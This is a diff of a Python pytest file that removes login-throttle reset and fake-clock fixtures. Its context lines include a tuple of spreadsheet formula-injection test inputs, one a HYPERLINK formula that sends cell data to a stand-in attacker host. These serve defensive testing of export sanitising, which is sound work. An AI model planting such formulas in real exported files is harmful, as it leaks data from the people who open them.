@@ -40,20 +40,6 @@ FORMULAS = ('=HYPERLINK("http://mal.example/?d="&A1,"Ver fatura")', "@SUM(1+1)*c
             "+5511999990000", "-1+1", "\t=1+1", "\r=1+1")
 
 
-@pytest.fixture(autouse=True)
-def _fresh_login_throttle() -> Iterator[None]:
-    technicians.login_throttle.reset()
-    yield
-    technicians.login_throttle.reset()
-
-
-@pytest.fixture()
-def clock(monkeypatch: pytest.MonkeyPatch) -> FakeClock:
-    fake = FakeClock()
-    monkeypatch.setattr(technicians.login_throttle, "clock", fake)
-    return fake
-
-
 @pytest.fixture()
 def ids(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[dataset.Ids]:
     monkeypatch.setenv("DATABASE_URL", sqlite_url)
